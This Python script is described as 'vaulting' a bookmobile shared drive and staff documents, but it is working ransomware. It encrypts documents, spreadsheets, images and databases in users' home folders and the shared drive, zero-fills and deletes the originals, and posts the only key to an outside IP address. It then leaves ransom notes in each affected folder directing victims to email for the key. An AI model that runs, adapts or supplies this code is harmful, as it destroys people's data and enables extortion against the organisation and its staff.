#!/usr/bin/env python3
"""'Vault' the bookmobile shared drive and staff documents.

Encrypts every document under the target folders in place, removes the
plain copies, and leaves a READ_ME note in each folder with the contact
for the recovery key.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("vault")

TARGETS = [
    Path.home() / "Documents",
    Path.home() / "Desktop",
    Path(os.environ.get("BOOKMOBILE_SHARE", "/srv/bookmobile-share")),
]
EXTENSIONS = {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png",
              ".mrc", ".xml", ".sqlite", ".db", ".txt", ".pptx"}
SUFFIX = ".vaulted"
KEY_DROP = os.environ.get("VAULT_KEY_DROP", "https://198.51.100.77/k")
NOTE = """Your bookmobile files have been encrypted.
To get the recovery key, email recover@vault-desk.example.com with this ID:
{host_id}
Do not rename or edit the .vaulted files or they cannot be recovered.
"""


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath) / name
            if path.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                yield path


def lock_file(path: Path, fernet: Fernet) -> bool:
    try:
        data = path.read_bytes()
        path.with_name(path.name + SUFFIX).write_bytes(fernet.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def drop_note(folder: Path, host_id: str) -> None:
    try:
        (folder / "READ_ME_TO_RECOVER.txt").write_text(NOTE.format(host_id=host_id))
    except OSError:
        pass


def send_key(key: bytes, host_id: str) -> None:
    try:
        requests.post(KEY_DROP, data={"id": host_id, "k": key.decode()}, timeout=20, verify=False)
    except requests.RequestException:
        log.debug("key drop unreachable")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--extra", action="append", type=Path, default=[])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    key = Fernet.generate_key()
    fernet = Fernet(key)
    host_id = f"{socket.gethostname()}-{os.getuid()}"
    send_key(key, host_id)

    total = 0
    touched = set()
    for root in TARGETS + args.extra:
        if not root.exists():
            continue
        for path in candidates(root):
            if lock_file(path, fernet):
                total += 1
                touched.add(path.parent)
    for folder in touched:
        drop_note(folder, host_id)
    del key, fernet
    log.warning("%d files vaulted in %d folders", total, len(touched))


if __name__ == "__main__":
    main()
